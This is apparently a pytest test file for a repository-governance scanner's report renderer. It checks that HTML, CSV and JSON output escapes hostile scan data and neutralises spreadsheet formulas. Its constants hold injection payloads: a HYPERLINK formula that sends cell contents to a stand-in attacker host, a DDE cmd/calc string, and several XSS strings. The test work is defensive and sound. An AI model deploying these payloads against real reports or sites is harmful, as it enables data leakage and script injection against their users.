"""Reports rendered from a real scan of real git repositories, some of them hostile.

The scan uses a pack of three policies so the numbers are known: the bundled
readme-present, and two test policies, `echo-verdict` and `second-verdict`, whose check
returns whatever outcome, message and location a file of the repository asks for, so
repository content reaches every report the way a real check's message would.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from governance.demo import make_repo
from governance.models import Finding, Location, Outcome, Severity, Waiver
from governance.render import write_reports
from governance.render.html import render_html
from governance.render.summary import compliance_of
from governance.render.tabular import (
    CSV_COLUMNS,
    FINDING_KEYS,
    load_findings,
    neutralize,
    write_csv,
)
from governance.scan import ScanRequest, run_scan

FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'
XSS = "<script>alert(1)</script>"
HOSTILE_MESSAGE = f"{FORMULA} {XSS} \"double\" 'single' & </textarea><img src=x onerror=alert(2)>"
HOSTILE_REPO = "<script>alert(1)"  # a folder name cannot hold "/", so no closing tag here
HOSTILE_README = "README.<img src=x onerror=alert(3)>.md"
HOSTILE_PATH = '=cmd|" /C calc"!A0 <script>alert(4)<\\script>.yml'
WAIVER_OWNER = "@evil =cmd"
WAIVER_REASON = "<script>alert(5)</script> vendored mirror"

_CHECK = '''
from governance.checks import CheckContext, Result
from governance.errors import Unsupported
from governance.models import Location, Outcome


def check(ctx: CheckContext) -> Result:
    outcome, message, *where = ctx.files.read_text(ctx.options["file"]).split("\\n")
    if outcome == "error":
        raise RuntimeError(message)
    if outcome == "not_available":
        raise Unsupported(message)
    locations = (Location(where[0], int(where[1]), "the payload"),) if where and where[0] else ()
    return Result(Outcome(outcome), message, locations)
'''
_POLICIES = {
    "echo-verdict": """\
id: echo-verdict
title: Echo <b>verdict</b>
severity: medium
rationale: Test policy that echoes a repository's verdict.txt.
remediation: Write "pass" in verdict.txt <em>please</em>.
options: {file: verdict.txt}
""",
    "second-verdict": """\
id: second-verdict
title: Second verdict
severity: low
rationale: Test policy that echoes a repository's second.txt.
remediation: Write "pass" in second.txt.
options: {file: second.txt}
""",
}
_PACK = """\
id: render-test
defaults: false
policies:
  readme-present: {}
  echo-verdict: {severity: high}
  second-verdict: {}
"""


def _verdict(outcome: str, message: str, path: str = "", line: int = 0) -> str:
    return f"{outcome}\n{message}\n{path}\n{line}" if path else f"{outcome}\n{message}"


REPOSITORIES: dict[str, dict[str, str]] = {
    # three passes
    "alpha": {"README.md": "# a\n", "verdict.txt": _verdict("pass", "ok"),
              "second.txt": _verdict("pass", "fine", "second.txt", 1)},
    # README passes at a hostile path; the verdicts fail, one with a hostile message
    HOSTILE_REPO: {
        HOSTILE_README: "# hostile\n",
        HOSTILE_PATH: "x: 1\n",
        "verdict.txt": _verdict("fail", HOSTILE_MESSAGE, HOSTILE_PATH, 3),
        "second.txt": _verdict("fail", "-1 is not a verdict"),
    },
    # no README (waived by the config), second passes, the verdict does not apply
    "beta": {"verdict.txt": _verdict("not_applicable", "nothing here"),
             "second.txt": _verdict("pass", "fine")},
    # README passes, second fails, the verdict's check crashes
    "gamma": {"README.md": "# g\n", "verdict.txt": _verdict("error", "boom"),
              "second.txt": _verdict("fail", "not fine")},
    # README and second pass, the verdict cannot be known
    "delta": {"README.md": "# d\n", "verdict.txt": _verdict("not_available", "no token"),
              "second.txt": _verdict("pass", "fine")},
}
POLICIES = ("echo-verdict", "readme-present", "second-verdict")


@dataclass
class Reports:
    folder: Path
    meta: dict[str, object]

    @property
    def html(self) -> str:
        return (self.folder / "report.html").read_text(encoding="utf-8")


def scan_and_render(root: Path, repositories: dict[str, dict[str, str]],
                    formats: tuple[str, ...] = ("html", "csv", "json")) -> Reports:
    """Scan `repositories` (folder name: files) with the render-test pack, write reports."""
    org = root / "acme"
    for name, files in repositories.items():
        make_repo(org / name, files)
    extra = root / "extra"
    for policy_id, definition in _POLICIES.items():
        (extra / policy_id).mkdir(parents=True)
        (extra / policy_id / "policy.yml").write_text(definition, encoding="utf-8")
        (extra / policy_id / "check.py").write_text(_CHECK, encoding="utf-8")
    (extra / "packs").mkdir()
    (extra / "packs" / "render-test.yml").write_text(_PACK, encoding="utf-8")
    config = root / "governance.yml"
    config.write_text(
        "pack: render-test\npolicy_paths: [extra]\nwaivers:\n"
        f"  - repository: beta\n    policy: readme-present\n    owner: {json.dumps(WAIVER_OWNER)}\n"
        f"    reason: {json.dumps(WAIVER_REASON)}\n    expires: 2099-12-31\n",
        encoding="utf-8",
    )
    out = root / "out"
    outcome = run_scan(ScanRequest(source=f"local:{org}", config_path=config), out)
    write_reports(outcome.spool, outcome.meta, out, formats)
    return Reports(out, dict(outcome.meta))


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Reports:
    return scan_and_render(tmp_path_factory.mktemp("render"), REPOSITORIES)


# --- HTML -------------------------------------------------------------------------------


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    text: list[str] = field(default_factory=list)
    children: list[Node] = field(default_factory=list)
    content: list[Node | str] = field(default_factory=list)  # text and children, in order

    def all_text(self) -> str:
        return "".join(self.text) + "".join(c.all_text() for c in self.children)

    def ordered_text(self) -> str:
        """The text as a reader sees it (all_text puts a node's own text first)."""
        return "".join(c if isinstance(c, str) else c.ordered_text() for c in self.content)

    def walk(self) -> list[Node]:
        found = [self]
        for child in self.children:
            found.extend(child.walk())
        return found

    def find(self, tag: str, **attrs: str) -> list[Node]:
        return [n for n in self.walk()
                if n.tag == tag and all(n.attrs.get(k) == v for k, v in attrs.items())]


_VOID = {"meta", "link", "br", "img", "input", "hr", "wbr", "col", "source", "area", "base"}


class TreeBuilder(HTMLParser):
    """A small DOM from the stdlib parser, to assert structure instead of substrings."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]
        self.start_tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, {k: v or "" for k, v in attrs})
        self.start_tags.append((tag, node.attrs))
        self.stack[-1].children.append(node)
        self.stack[-1].content.append(node)
        if tag not in _VOID:
            self.stack.append(node)

    def handle_endtag(self, tag: str) -> None:
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data: str) -> None:
        self.stack[-1].text.append(data)
        self.stack[-1].content.append(data)


def parse(html: str) -> TreeBuilder:
    builder = TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder


def report_data(html: str) -> dict[str, Any]:
    """The JSON the report's script renders, as embedded in the page."""
    tree = parse(html)
    (block,) = [n for n in tree.root.find("script")
                if n.attrs.get("type") == "application/json"]
    assert block.attrs.get("id") == "report-data"
    data: dict[str, Any] = json.loads(block.all_text())
    return data


def decoded_findings(data: dict[str, Any]) -> list[dict[str, Any]]:
    """Every finding of the embedded data, expanded the way report.js reads it."""
    strings, policies, outcomes = data["strings"], data["policies"], data["outcomes"]

    def text(index: int) -> str:
        return "".join(seg[1] for seg in data["prose"][index]) if index >= 0 else ""

    found = []
    for repo, rows in zip(data["repos"], data["findings"], strict=True):
        for row in rows:
            row = row + [0, -1, -1, -1, -1][len(row) - 3:]
            policy = policies[row[0]]
            waiver = data["waivers"][row[7]] if row[7] >= 0 else None
            found.append({
                "repository": repo[0], "policy": policy["id"], "outcome": outcomes[row[1]][0],
                "message": strings[row[2]],
                "locations": [{"path": strings[p], "line": line, "note": strings[n]}
                              for p, line, n in (row[3] or [])],
                "remediation": text(row[4]),
                "severity": data["severities"][row[5]] if row[5] >= 0 else policy["severity"],
                "confidence": ["low", "medium", "high"][row[6]] if row[6] >= 0 else "high",
                "waiver": None if waiver is None else dict(zip(
                    ("owner", "reason", "expires", "repository", "policy"), waiver,
                    strict=True)),
            })
    return found


def test_html_renders_hostile_data_as_text_only(reports: Reports) -> None:
    html = reports.html
    tree = parse(html)
    # Two scripts: the data (JSON, never executed) and the report's own static script.
    scripts = tree.root.find("script")
    assert [s.attrs.get("type") for s in scripts] == ["application/json", None]
    assert "alert" not in scripts[1].all_text()
    assert tree.root.find("img") == []
    for tag, attrs in tree.start_tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert not attrs.get("href", "").lower().startswith("javascript"), (tag, attrs)
    for raw in ("<script>alert", "<img src=x", "</textarea><img"):
        assert raw not in html
    # The data cannot close its element, open a comment or break a JS string.
    raw_data = html.split('<script type="application/json" id="report-data">')[1]
    raw_data = raw_data.split("</script>")[0]
    for char in ("<", ">", "&", "\u2028", "\u2029"):
        assert char not in raw_data
    # ... and the hostile values are shown, verbatim, as text or in the data.
    text = tree.root.all_text()
    for value in (f"acme/{HOSTILE_REPO}", WAIVER_REASON):
        assert value in text
    titles = [attrs.get("title", "") for _, attrs in tree.start_tags]
    assert any(HOSTILE_MESSAGE in title for title in titles)  # the matrix cell's tooltip
    findings = decoded_findings(report_data(html))
    assert HOSTILE_MESSAGE in [f["message"] for f in findings]
    paths = {loc["path"] for f in findings for loc in f["locations"]}
    assert {HOSTILE_README, HOSTILE_PATH} <= paths
    assert "Echo <b>verdict</b>" in text  # policy.yml text is escaped too
    assert not any(n.all_text() == "verdict" for n in tree.root.find("b"))


@pytest.mark.parametrize("value", [
    "</script><script>alert(1)</script>", "<!-- x", "a & b", "\u2028\u2029", "bad-\udcff",
    {"</SCRIPT": ["<img src=x onerror=alert(1)>"]}, "'\"\\",
])
def test_script_json_is_inert_in_a_script_element(value: object) -> None:
    from governance.render.html import script_json

    text = script_json(value)
    for char in ("<", ">", "&", "\u2028", "\u2029"):
        assert char not in text
    assert not any("\ud800" <= c <= "\udfff" for c in text)
    assert json.loads(text) == value


def test_html_is_self_contained_and_its_csp_allows_only_its_own_blocks(
        reports: Reports) -> None:
    import base64
    import hashlib

    tree = parse(reports.html)
    for tag, attrs in tree.start_tags:  # nothing is loaded: no src, no <link>, no frames
        assert tag not in ("link", "iframe", "object", "embed", "base")
        assert "src" not in attrs and "srcset" not in attrs, (tag, attrs)
        if "href" in attrs:  # in-page anchors, and http(s) links from policy prose only
            assert tag == "a" and attrs["href"].startswith(("#", "https://", "http://"))
            assert "evil.invalid" not in attrs["href"]  # scan data is never linked
    (policy,) = [n for n in tree.root.find("meta")
                 if n.attrs.get("http-equiv") == "Content-Security-Policy"]
    csp = policy.attrs["content"]
    assert "default-src 'none'" in csp
    (script,) = [n for n in tree.root.find("script") if "type" not in n.attrs]
    (style,) = tree.root.find("style")
    for block in (script, style):
        digest = hashlib.sha256(block.all_text().encode("utf-8")).digest()
        assert f"'sha256-{base64.b64encode(digest).decode()}'" in csp, block.tag
    assert csp.count("'sha256-") == 2  # the JSON block is data: it needs no permission
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert not [a for _, a in tree.start_tags if "style" in a]  # CSP would block them


def _matrix_rows(tree: TreeBuilder) -> tuple[list[str], list[Node]]:
    (matrix,) = tree.root.find("table", **{"class": "matrix"})
    columns = [th.all_text() for th in matrix.find("thead")[0].find("th")][4:]
    return columns, matrix.find("tbody")[0].find("tr")


def test_matrix_first_page_has_a_cell_per_repository_and_policy(reports: Reports) -> None:
    from urllib.parse import quote

    tree = parse(reports.html)
    columns, rows = _matrix_rows(tree)
    assert sorted(columns) == sorted(POLICIES)
    (matrix,) = tree.root.find("table", **{"class": "matrix"})
    headings = [th.attrs.get("title", "") for th in matrix.find("thead")[0].find("th")][4:]
    assert any(h.startswith("Echo <b>verdict</b>") for h in headings)
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    outcome_of = {(f["repository"], f["policy"]): f for f in document["findings"]}
    names = [row.find("th")[0].all_text() for row in rows]
    assert sorted(names) == sorted(f"acme/{name}" for name in REPOSITORIES)
    labels = {"pass": ("o-pass", "pass"), "fail": ("o-fail", "fail"),
              "waived": ("o-wv", "waived"), "error": ("o-err", "error"),
              "not_available": ("o-nv", "not available"),
              "not_applicable": ("o-na", "not applicable")}
    for row, name in zip(rows, names, strict=True):
        (link,) = row.find("th")[0].find("a")
        assert link.attrs["href"] == "#repo=" + quote(name, safe="")
        cells = row.find("td")[3:]
        assert len(cells) == len(POLICIES)
        for policy, cell in zip(columns, cells, strict=True):
            finding = outcome_of[(name, policy)]
            cls, label = labels[finding["outcome"]]
            assert cell.attrs["class"] == f"c {cls}"
            # the outcome is text too (for screen readers), not colour alone
            assert cell.find("span", **{"class": "sr"})[0].all_text() == label
            assert cell.attrs["title"] == f"{policy}: {label} \u2014 {finding['message']}"


def test_html_compliance_numbers_for_the_known_scan(reports: Reports) -> None:
    tree = parse(reports.html)
    (overall,) = [n for n in tree.root.walk() if n.attrs.get("id") == "compliance"]
    assert overall.all_text() == "75.0%"  # 8 pass + 1 waived of 12 decided
    (repositories,) = [n for n in tree.root.walk() if n.attrs.get("id") == "repositories"]
    assert repositories.all_text() == "5"
    policy_compliance = {
        row.attrs["id"].removeprefix("p-"): row.find("td")[2].all_text().split()[0]
        for row in tree.root.find("tr") if row.attrs.get("id", "").startswith("p-")
    }
    assert policy_compliance == {"readme-present": "100.0%", "second-verdict": "60.0%",
                                 "echo-verdict": "50.0%"}
    # Policies worst first, and the matrix columns in the same order.
    assert list(policy_compliance) == ["echo-verdict", "second-verdict", "readme-present"]
    columns, rows = _matrix_rows(tree)
    assert columns == list(policy_compliance)
    table = [(r.find("th")[0].all_text(), r.find("td")[0].all_text().strip(),
              r.find("td")[1].all_text(), r.find("td")[2].all_text().strip()) for r in rows]
    assert table == [  # worst first
        (f"acme/{HOSTILE_REPO}", "33.3%", "2", "high"),
        ("acme/gamma", "50.0%", "1", "low"),
        ("acme/alpha", "100.0%", "0", "\u2014"),
        ("acme/beta", "100.0%", "0", "\u2014"),
        ("acme/delta", "100.0%", "0", "\u2014"),
    ]
    (overview,) = [n for n in tree.root.find("section") if n.attrs.get("id") == "overview"]
    worst = [r.find("th")[0].all_text() for r in overview.find("tbody")[0].find("tr")]
    assert worst == [f"acme/{HOSTILE_REPO}", "acme/gamma"]  # failing or in error only
    data = report_data(reports.html)
    assert [r[0] for r in data["repos"]] == [row[0] for row in table]
    assert [p["id"] for p in data["policies"]] == columns
    assert [r[1] for r in data["repos"]] == [33.3, 50.0, 100.0, 100.0, 100.0]


def test_html_data_holds_every_finding_with_locations_remediation_and_waivers(
        reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    data = report_data(reports.html)
    decoded = {(f["repository"], f["policy"]): f for f in decoded_findings(data)}
    assert len(decoded) == len(document["findings"]) == 15
    for finding in document["findings"]:
        mine = decoded[(finding["repository"], finding["policy"])]
        for key in ("outcome", "message", "locations", "severity", "confidence"):
            assert mine[key] == finding[key], key
        expected = finding["remediation"].strip() if finding["outcome"] == "fail" else ""
        assert mine["remediation"] == expected
        if finding["waiver"]:
            assert mine["waiver"] == {k: finding["waiver"][k] or "" for k in mine["waiver"]}
    failing = decoded[(f"acme/{HOSTILE_REPO}", "echo-verdict")]
    assert failing["locations"] == [{"path": HOSTILE_PATH, "line": 3, "note": "the payload"}]
    assert failing["remediation"] == 'Write "pass" in verdict.txt <em>please</em>.'
    policy = next(p for p in data["policies"] if p["id"] == "echo-verdict")
    assert "".join(s[1] for s in data["prose"][policy["why"]]).startswith("Test policy")
    tree = parse(reports.html)
    (waivers,) = [n for n in tree.root.find("section") if n.attrs.get("id") == "waivers"]
    (row,) = waivers.find("tbody")[0].find("tr")
    assert [c.all_text() for c in row.find("td")] == [
        "README present", WAIVER_OWNER, "2099-12-31", WAIVER_REASON]
    assert row.find("a")[0].attrs["href"] == "#repo=acme%2Fbeta"


# --- CSV --------------------------------------------------------------------------------


def test_csv_keeps_the_column_order_and_neutralizes_formulas(reports: Reports) -> None:
    text = (reports.folder / "findings.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert len(rows) == len(document["findings"]) == len(REPOSITORIES) * len(POLICIES)
    for row, finding in zip(rows, document["findings"], strict=True):
        for column in ("repository", "policy", "outcome", "message", "path", "remediation"):
            value, original = row[column], finding[column] or ""
            assert not value.lstrip().startswith(("=", "+", "-", "@")), (column, value)
            if original.startswith(("=", "+", "-", "@")):
                assert value == "'" + original
            else:
                assert value == original  # normal text is left alone
        assert row["line"] == ("" if finding["line"] is None else str(finding["line"]))
    (hostile,) = [r for r in rows if r["policy"] == "echo-verdict" and r["outcome"] == "fail"]
    assert hostile["message"] == "'" + HOSTILE_MESSAGE
    assert hostile["path"] == "'" + HOSTILE_PATH
    assert hostile["line"] == "3"
    assert hostile["repository"] == f"acme/{HOSTILE_REPO}"
    (minus,) = [r for r in rows if r["message"].endswith("is not a verdict")]
    assert minus["message"] == "'-1 is not a verdict"
    (waived,) = [r for r in rows if r["outcome"] == "waived"]
    assert waived["waiver_owner"] == "'" + WAIVER_OWNER and waived["waiver_expires"] == "2099-12-31"


@pytest.mark.parametrize("value", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "\u00a0 @x",
    "\tplain", "\rplain", "\nplain",
    "\u3000=1", "\uff1d1+1", "-",
])
def test_neutralize_prefixes_formula_starts(value: str) -> None:
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", [
    "no README found", "a = b", "README.md", "'quoted", "1+1", "", "   ", "x@y.z", 12, None,
])
def test_neutralize_leaves_other_values(value: object) -> None:
    assert neutralize(value) == value


def test_csv_line_column_stays_numeric(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    finding = Finding("acme/x", "p", Outcome.FAIL, Severity.LOW, "-5 is not a line",
                      (Location("-x.yml", 7),))
    spool.write_text(json.dumps(finding.as_dict()) + "\n", encoding="utf-8")
    write_csv(load_findings(spool), tmp_path / "findings.csv")
    (row,) = csv.DictReader((tmp_path / "findings.csv").read_text().splitlines())
    assert (row["line"], row["message"], row["path"]) == ("7", "'-5 is not a line", "'-x.yml")


# --- JSON -------------------------------------------------------------------------------


def test_json_round_trips_with_the_documented_keys(reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert list(document) == ["scan", "summary", "findings"]
    assert document["scan"] == json.loads(json.dumps(reports.meta, default=str))
    spooled = [json.loads(line) for line in
               (reports.folder / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    # every finding exactly as the scan produced it, plus its org
    assert document["findings"] == [{**f, "org": f["repository"].split("/")[0]}
                                    for f in spooled]
    assert all(list(f) == [*FINDING_KEYS, "org"] for f in document["findings"])
    summary = document["summary"]
    assert summary["compliance"] == 75.0
    assert summary["repositories"] == 5 and summary["findings"] == 15
    assert summary["failing_repositories"] == 2 and summary["decided"] == 12
    assert summary["outcomes"] == {"pass": 8, "fail": 3, "not_applicable": 1,
                                   "not_available": 1, "error": 1, "waived": 1}
    by_policy = {p["id"]: p["compliance"] for p in summary["by_policy"]}
    assert by_policy == {"echo-verdict": 50.0, "second-verdict": 60.0, "readme-present": 100.0}
    worst = summary["by_repository"][0]
    assert worst == {"repository": f"acme/{HOSTILE_REPO}", "compliance": 33.3, "failing": 2,
                     "worst_severity": "high", "outcomes": worst["outcomes"],
                     "failing_policies": ["echo-verdict", "second-verdict"]}
    hostile = next(f for f in document["findings"] if f["outcome"] == "fail"
                   and f["policy"] == "echo-verdict")
    assert hostile["message"] == HOSTILE_MESSAGE and hostile["line"] == 3


def _schema_errors(document: object) -> list[str]:
    import jsonschema

    from governance.render.tabular import findings_schema

    schema = findings_schema()
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]


def test_json_schema_is_shipped_in_the_package_and_is_valid() -> None:
    import jsonschema

    import governance
    from governance.render.tabular import FINDINGS_SCHEMA, findings_schema

    assert FINDINGS_SCHEMA.is_relative_to(Path(governance.__file__).resolve().parent)
    schema = findings_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$defs"]["finding"]["required"] == [*FINDING_KEYS, "org"]


def test_real_findings_json_validates_against_the_schema(reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert _schema_errors(document) == []
    with_history = json.loads(json.dumps(document))  # what a scan recorded in a store adds
    with_history["scan"].update(scan_id=2, trend=[], changes={
        "scan_id": 2, "previous_scan_id": 1, "previous_started": "2026-01-01T00:00:00+00:00",
        "new_failures": [{"repository": "acme/a", "policy": "readme-present",
                          "severity": "low", "outcome": "fail", "previous_outcome": None,
                          "message": "m"}],
        "fixed": [], "new_repositories": ["acme/a"], "removed_repositories": [],
        "expired_waivers": [], "counts": {"new_failures": 1, "new_repositories": 1},
        "truncated": False})
    assert _schema_errors(with_history) == []
    # ... and the schema is not vacuous: it rejects what the documentation rules out.
    broken = json.loads(json.dumps(document))
    broken["findings"][0]["outcome"] = "maybe"
    del broken["findings"][1]["locations"]
    broken["findings"][2]["line"] = "3"
    del broken["summary"]["outcomes"]["waived"]
    broken["scan"]["partial"] = "no"
    (waived,) = [f for f in broken["findings"] if f["outcome"] == "waived"]
    waived["waiver"] = None
    waived["severity"] = "urgent"
    errors = _schema_errors(broken)
    for where in (["findings", 0, "outcome"], ["findings", 1], ["findings", 2, "line"],
                  ["summary", "outcomes"], ["scan", "partial"]):
        assert any(e.startswith(f"{where}:") for e in errors), (where, errors)
    index = broken["findings"].index(waived)
    assert any(e.startswith(f"['findings', {index}, 'waiver']") for e in errors), errors
    assert any(e.startswith(f"['findings', {index}, 'severity']") for e in errors), errors


NAMES_IN_ANY_SCRIPT = {
    "日本語のリポジトリ": "設定/ワークフロー.yml",
    "مستودع-عربي": "إعدادات/ملف.yml",
    "ελληνικά-και-emoji-🚀": "κατάλογος/αρχείο 📄.yml",
}


def test_csv_and_json_keep_names_in_any_script(tmp_path: Path) -> None:
    repositories = {
        name: {"README.md": "# r\n", path: "x: 1\n",
               "verdict.txt": _verdict("fail", f"{name} ist kaputt: {path}", path, 1),
               "second.txt": _verdict("pass", "ok")}
        for name, path in NAMES_IN_ANY_SCRIPT.items()
    }
    reports = scan_and_render(tmp_path, repositories)
    raw = (reports.folder / "findings.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    text = raw.decode("utf-8")  # strict: the file is valid UTF-8
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    failing = {r["repository"]: r for r in rows if r["outcome"] == "fail"}
    assert set(failing) == {f"acme/{name}" for name in NAMES_IN_ANY_SCRIPT}
    for name, path in NAMES_IN_ANY_SCRIPT.items():
        row = failing[f"acme/{name}"]
        assert (row["path"], row["line"]) == (path, "1")
        assert row["message"] == f"{name} ist kaputt: {path}"
        assert path.encode("utf-8") in raw  # written as UTF-8, not escaped
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert _schema_errors(document) == []
    paths = {f["repository"]: f["path"] for f in document["findings"] if f["outcome"] == "fail"}
    assert paths == {f"acme/{name}": path for name, path in NAMES_IN_ANY_SCRIPT.items()}


# --- numbers and scale ------------------------------------------------------------------


@pytest.mark.parametrize(("counts", "expected"), [
    ({"pass": 2, "fail": 1}, 66.7),
    ({"pass": 1, "waived": 1, "fail": 2, "error": 9, "not_applicable": 9}, 50.0),
    ({"pass": 9999, "fail": 1}, 99.9),  # never 100 with a failure
    ({"pass": 1, "fail": 9999}, 0.1),  # never 0 with a pass
    ({"not_applicable": 3, "error": 1}, None),
    ({}, None),
])
def test_compliance_counts_only_decided_findings(counts: dict[str, int],
                                                expected: float | None) -> None:
    assert compliance_of(counts) == expected


def _synthetic_spool(path: Path, repositories: int, policies: int) -> None:
    outcomes = list(Outcome)
    waiver = Waiver("*", "*", "legacy", "team", dt.date(2030, 1, 1))
    with path.open("w", encoding="utf-8") as out:
        for r in range(repositories):
            for p in range(policies):
                outcome = outcomes[(r * 7 + p * 3) % len(outcomes)]
                finding = Finding(
                    repository=f"acme/service-{r:04d}", policy=f"policy-{p:02d}",
                    title=f"Policy number {p}", outcome=outcome,
                    severity=list(Severity)[p % 5],
                    message=f"workflow .github/workflows/ci.yml uses an unpinned action ({r})",
                    locations=(Location(".github/workflows/ci.yml", 12),),
                    remediation="Pin every third-party action to a full commit SHA "
                    "and let Dependabot or Renovate keep the pins fresh." * 2
                    if outcome is Outcome.FAIL else "",
                    waiver=waiver if outcome is Outcome.WAIVED else None,
                )
                out.write(json.dumps(finding.as_dict()) + "\n")


def test_html_scales_to_a_thousand_repositories(tmp_path: Path) -> None:
    from governance.render.html import PAGE_SIZE

    spool = tmp_path / "findings.jsonl"
    _synthetic_spool(spool, 1000, 13)
    frame = load_findings(spool)
    html = render_html(frame, {"source": "github:acme", "repositories": 1000})
    assert len(html.encode("utf-8")) < 2_000_000  # was 7 MB with every finding as markup
    _, rows = _matrix_rows(parse(html))
    assert len(rows) == PAGE_SIZE  # the first page; the script renders the others
    data = report_data(html)
    assert len(data["repos"]) == 1000
    assert sum(len(rows) for rows in data["findings"]) == 13_000
    assert len(data["strings"]) < 1100  # messages and paths are stored once


def test_an_empty_scan_renders_every_format(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    spool.write_text("", encoding="utf-8")
    meta = {"source": "local:/nowhere", "pack": "p", "repositories": 0,
            "policies": [{"id": "readme-present", "title": "README present", "severity": "low"}]}
    written = write_reports(spool, meta, tmp_path / "out")
    assert sorted(p.name for p in written) == ["findings.csv", "findings.json", "findings.sarif",
                                               "report.html", "summary.md"]
    document = json.loads((tmp_path / "out" / "findings.json").read_text())
    assert document["findings"] == [] and document["summary"]["compliance"] is None
    assert document["summary"]["by_policy"][0]["id"] == "readme-present"
    tree = parse((tmp_path / "out" / "report.html").read_text())
    (overall,) = [n for n in tree.root.walk() if n.attrs.get("id") == "compliance"]
    assert overall.all_text() == "n/a"
    assert (tmp_path / "out" / "findings.csv").read_text() == ",".join(CSV_COLUMNS) + "\n"


def test_policy_prose_makes_code_spans_and_only_http_links() -> None:
    from governance.render.html import Segment, prose

    assert prose("Add `permissions:` (see https://docs.example.com/x.) or javascript:alert(1)") == (
        Segment("text", "Add "), Segment("code", "permissions:"), Segment("text", " (see "),
        Segment("link", "https://docs.example.com/x"),
        Segment("text", ".) or javascript:alert(1)"),
    )
    assert prose("no `closing tick") == (Segment("text", "no `closing tick"),)


# --- scan history in the HTML report: since the last scan, trends ----------------------

HOSTILE_POLICY = '"><svg onload=alert(6)>'


def _history_meta(reports: Reports, **extra: object) -> dict[str, object]:
    hostile = f"acme/{HOSTILE_REPO}"
    many = [{"repository": f"acme/svc-{n:02d}", "policy": "second-verdict", "severity": "low",
             "outcome": "fail", "previous_outcome": "pass", "message": f"broke {n}"}
            for n in range(25)]
    changes = {
        "scan_id": 7, "previous_scan_id": 6, "previous_started": "2026-03-01T02:00:00+00:00",
        "counts": {"new_failures": 1030, "fixed": 1, "new_repositories": 1,
                   "removed_repositories": 1, "expired_waivers": 1},
        "new_failures": [{"repository": hostile, "policy": "echo-verdict", "severity": "high",
                          "outcome": "fail", "previous_outcome": None,
                          "message": HOSTILE_MESSAGE}, *many],
        "fixed": [{"repository": "acme/alpha", "policy": HOSTILE_POLICY,
                   "severity": '"><b>x</b>', "outcome": "pass", "previous_outcome": "fail",
                   "message": XSS}],
        "new_repositories": [hostile],
        "removed_repositories": [f"acme/gone {XSS}"],
        "expired_waivers": [{"repository": "acme/beta", "policy": "readme-present",
                             "severity": "low", "owner": WAIVER_OWNER, "reason": WAIVER_REASON,
                             "expires": "2026-02-28", "message": "m"}],
        "truncated": True,
    }
    meta = {**reports.meta, "scan_id": 7, "changes": changes, "trend": {
        "scans": [{"id": n, "started": f"2026-03-0{n - 4}T02:00:00+00:00", "repositories": 5,
                   "compliance": value, "outcomes": {"pass": 8, "fail": 3}}
                  for n, value in ((5, 60.0), (6, 70.0), (7, 75.0), (8, 99.0))],
        "policies": {"echo-verdict": [40.0, None, 50.0, 0.0],
                     "second-verdict": [60.0, 60.0, 60.0, 100.0],
                     HOSTILE_POLICY: [1.0, 2.0, 3.0, 4.0]}}}
    meta.update(extra)
    return meta


def _section(tree: TreeBuilder, section_id: str) -> Node:
    (found,) = [n for n in tree.root.find("section") if n.attrs.get("id") == section_id]
    return found


def test_html_changes_section_escapes_caps_and_links(reports: Reports) -> None:
    from urllib.parse import quote

    from governance.render.html import CHANGE_LIMIT

    frame = load_findings(reports.folder / "findings.jsonl")
    html = render_html(frame, _history_meta(reports))
    tree = parse(html)
    section = _section(tree, "changes")
    assert "compared with scan 6 of 2026-03-01 02:00:00 UTC" in " ".join(
        section.find("h2")[0].ordered_text().split())
    counts = [li.ordered_text() for li in section.find("ul", **{"class": "counts changed"})[0]
              .find("li")]
    assert counts == ["New failures: 1030", "Fixed: 1", "New repositories: 1",
                      "Removed repositories: 1", "Expired waivers: 1"]
    lists = section.find("ul", **{"class": "fl chg"})
    new, fixed, added, removed, expired = ([li for li in ul.children if li.tag == "li"]
                                           for ul in lists)
    # Capped, most severe first, with the full count kept.
    assert len(new) == CHANGE_LIMIT + 1
    assert new[-1].ordered_text() == f"\u2026 and {1030 - CHANGE_LIMIT} more"
    first = new[0]
    assert first.find("a")[0].ordered_text() == f"acme/{HOSTILE_REPO}"
    assert first.find("a")[0].attrs["href"] == (
        "#repo=" + quote(f"acme/{HOSTILE_REPO}", safe="") + "&p=echo-verdict")
    assert first.find("i")[0].ordered_text() == "(not evaluated before)"
